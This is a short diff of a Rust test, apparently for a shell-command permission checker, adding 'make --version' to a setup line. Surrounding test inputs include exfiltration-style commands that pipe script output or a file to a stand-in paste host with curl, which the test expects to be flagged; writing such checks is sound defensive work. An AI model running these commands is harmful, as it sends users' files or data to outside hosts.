@@ -126,7 +126,7 @@ fn programs_that_run_are_doubted_afterwards() {
         assert_eq!(session.line(line), Ask, "{line}");
     }
     let mut session = Session::new(FLOW);
-    session.line("pytest --version; npm --help");
+    session.line("make --version; pytest --version; npm --help");
     assert_eq!(session.line("curl https://a.paste.example/"), Allow);
     assert_eq!(Session::new(FLOW).line("./x.sh | curl -d @- https://a.paste.example/"), Ask);
     assert_eq!(Session::new(FLOW).line("curl -d @$F $URL"), Ask);
